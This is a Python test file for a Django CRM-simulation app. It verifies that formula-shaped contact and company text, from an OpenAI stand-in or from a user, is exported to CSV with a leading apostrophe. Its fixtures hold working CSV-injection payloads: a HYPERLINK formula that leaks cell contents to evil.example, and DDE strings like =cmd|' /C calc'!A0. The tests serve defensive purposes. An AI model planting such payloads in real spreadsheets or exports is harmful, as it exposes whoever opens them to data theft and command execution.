"""A language model's text is data: formula-shaped personas and companies reach no export as a live formula.

The OpenAI stand-in, over real HTTP, writes every contact and company of a planned b2b run with
text a spreadsheet would run (`=HYPERLINK(…)`, `+SUM(…)`, `@…`, `-…`); the run's jobs play it out,
and every cell of every export is read back through the API.
"""

import csv
import io
import re
from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone
from rest_framework.fields import ChoiceField
from rest_framework.test import APIClient

from simulations.api.serializers import ExportQuerySerializer
from simulations.models import Company, Contact, Deal
from standins.openai import OpenAIStandIn, StandInReply
from tests.idle import run_until_idle

pytestmark = pytest.mark.django_db

URL = "/api/simulations/"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
# The test's own reading of "looks like a phone number": digits, spaces and + - ( ) . x.
PHONE_LIKE = re.compile(r"[0-9 +\-().x]*[0-9][0-9 +\-().x]*")
POOL = 12
EVIL = "http://evil.example/?leak="
JOBTITLE = f'=HYPERLINK("{EVIL}"&A1,"Offer")'
INDUSTRY = "@SUM(1+1)*cmd|' /C calc'!A0"
CITY = "-2+3+cmd|' /C calc'!A0"
COUNTRY = "+SUM(1,2)"
PHONES = ["+1 555 0100", "=cmd|' /C calc'!A0", "+44 (0)20 7946 0958", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]


def _personas() -> list[dict[str, str]]:
    triggers = ["=", "+", "-"]  # an email's local part may start with these, not with @
    return [
        {
            "firstname": ["=HYPERLINK(A1)", "+Ada", "-Ada", "@Ada"][i % 4],
            "lastname": f"{triggers[i % 3]}SUM({i},1)",
            "email": f"{triggers[i % 3]}{i}cmd@example.com",
            "jobtitle": JOBTITLE,
            "company": "+SUM(1,2)",
            "industry": INDUSTRY,
            "phone": PHONES[i % len(PHONES)],
            "city": CITY,
            "country": COUNTRY,
        }
        for i in range(POOL)
    ]


def _companies() -> list[dict[str, Any]]:
    return [
        {
            "name": f'{"=+-@"[i % 4]}HYPERLINK("{EVIL}{i}","Co {i}")',
            "domain": f"evil{i}.example.com",
            "industry": INDUSTRY,
            "city": CITY,
            "country": COUNTRY,
            "employees": 10 + i,
        }
        for i in range(POOL)
    ]


def _create_planned(client: APIClient, **fields: Any) -> int:
    now = timezone.now()
    body = {
        "total_records": POOL,
        "seed": 19,
        "starts_at": (now - timedelta(days=60)).isoformat(),
        "ends_at": (now - timedelta(hours=1)).isoformat(),
        "contacts_per_company": 3,
        "deal_rate": 1.0,
        "win_rate": 0.5,
        "sales_cycle_days": 10,
        **fields,
    }
    response = client.post(URL, body, format="json")
    assert response.status_code == 201, response.content
    return int(response.json()["id"])


def _exports(client: APIClient, simulation_id: int) -> dict[str, list[list[str]]]:
    """Every export the API offers, parsed: {object: [header, row, ...]}."""
    field = ExportQuerySerializer().fields["object"]
    assert isinstance(field, ChoiceField)
    objects = list(field.choices)
    assert {"contacts", "companies", "deals"} <= set(objects)
    exports = {}
    for name in objects:
        response = client.get(f"{URL}{simulation_id}/export/", {"object": name})
        assert response.status_code == 200, (name, response.content)
        text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
        exports[name] = list(csv.reader(io.StringIO(text)))
    return exports


def _assert_no_live_formula(exports: dict[str, list[list[str]]]) -> int:
    """No cell of any export starts a formula, but for a phone number in a phone column; returns the
    number of cells that were neutralised."""
    neutralised = 0
    for name, (header, *rows) in exports.items():
        for row in rows:
            assert len(row) == len(header), (name, row)
            for column, cell in zip(header, row, strict=True):
                if cell.startswith(DANGEROUS):
                    assert "phone" in column and PHONE_LIKE.fullmatch(cell), (name, column, cell)
                neutralised += cell.startswith("'")
    return neutralised


def _assert_rows_keep_their_text(rows: list[list[str]], records: list[Any], fields: dict[str, str]) -> None:
    """Export rows against their records (both in timeline order): each text column holds the record's
    value, with a leading ' exactly where the value would start a formula."""
    header, *body = rows
    assert len(body) == len(records)
    for row, record in zip(body, records, strict=True):
        for column, attribute in fields.items():
            value = str(getattr(record, attribute) if "." not in attribute else _dotted(record, attribute))
            cell = row[header.index(column)]
            kept = "phone" in column and PHONE_LIKE.fullmatch(value)
            if value.startswith(DANGEROUS) and not kept:
                assert cell == "'" + value, (column, cell, value)
            else:
                assert cell == value, (column, cell, value)


def _dotted(record: Any, path: str) -> Any:
    for part in path.split("."):
        record = getattr(record, part)
    return record


def test_formula_text_from_openai_reaches_no_export_as_a_formula(
    api_client: APIClient, openai_standin: OpenAIStandIn, settings: Any
) -> None:
    settings.SIMCRM_PERSONA_POOL_SIZE = POOL
    # Each request takes one reply: a persona request its personas, a company request its companies.
    reply = StandInReply.ok(personas=_personas(), companies=_companies())
    openai_standin.script([reply, reply])
    simulation_id = _create_planned(api_client, theme="Formula fans", industry="Spreadsheets")

    run_until_idle()

    contacts = list(Contact.objects.filter(simulation_id=simulation_id).order_by("occurred_at", "id"))
    companies = list(Company.objects.filter(simulation_id=simulation_id).order_by("occurred_at", "id"))
    deals = list(
        Deal.objects.filter(simulation_id=simulation_id).select_related("contact").order_by("occurred_at", "id")
    )
    # The run is made of the model's text, or the checks below prove nothing.
    assert len(contacts) == POOL and {c.source for c in contacts} == {"openai"}
    assert {c.jobtitle for c in contacts} == {JOBTITLE}
    assert {c.phone for c in contacts} == set(PHONES)
    assert companies and all(c.name.startswith(("=", "+", "-", "@")) for c in companies)
    assert deals and all(d.name.startswith(("=", "+", "-", "@")) for d in deals)
    assert all(c.email.startswith(("=", "+", "-")) for c in contacts)

    exports = _exports(api_client, simulation_id)
    neutralised = _assert_no_live_formula(exports)
    assert neutralised >= 8 * len(contacts) + 4 * len(companies) + 2 * len(deals)

    text_columns = ("firstname", "lastname", "email", "jobtitle", "company", "industry", "phone", "city", "country")
    _assert_rows_keep_their_text(exports["contacts"], contacts, {column: column for column in text_columns})
    _assert_rows_keep_their_text(
        exports["companies"],
        companies,
        {"name": "name", "domain": "domain", "industry": "industry", "city": "city", "country": "country"},
    )
    _assert_rows_keep_their_text(exports["deals"], deals, {"dealname": "name", "email": "contact.email"})
    # A real phone number stays as it is; a formula in the phone column does not.
    phones = {row[exports["contacts"][0].index("phone")] for row in exports["contacts"][1:]}
    assert "+1 555 0100" in phones and "+44 (0)20 7946 0958" in phones
    assert "'=cmd|' /C calc'!A0" in phones and "'@SUM(1+1)" in phones and "'-2+3+cmd|' /C calc'!A0" in phones


def test_formula_text_a_user_writes_reaches_no_offline_export_as_a_formula(api_client: APIClient) -> None:
    # Offline personas and companies carry the simulation's industry (and its theme's words) as written.
    simulation_id = _create_planned(api_client, theme='=HYPERLINK("http://evil.example","x")', industry="+SUM(1,2)")

    run_until_idle()

    contacts = list(Contact.objects.filter(simulation_id=simulation_id).order_by("occurred_at", "id"))
    assert len(contacts) == POOL and {c.source for c in contacts} == {"offline"}
    assert {c.industry for c in contacts} == {"+SUM(1,2)"}
    exports = _exports(api_client, simulation_id)
    _assert_no_live_formula(exports)
    industry = exports["contacts"][0].index("industry")
    assert {row[industry] for row in exports["contacts"][1:]} == {"'+SUM(1,2)"}
    companies = list(Company.objects.filter(simulation_id=simulation_id).order_by("occurred_at", "id"))
    _assert_rows_keep_their_text(exports["companies"], companies, {"name": "name", "industry": "industry"})
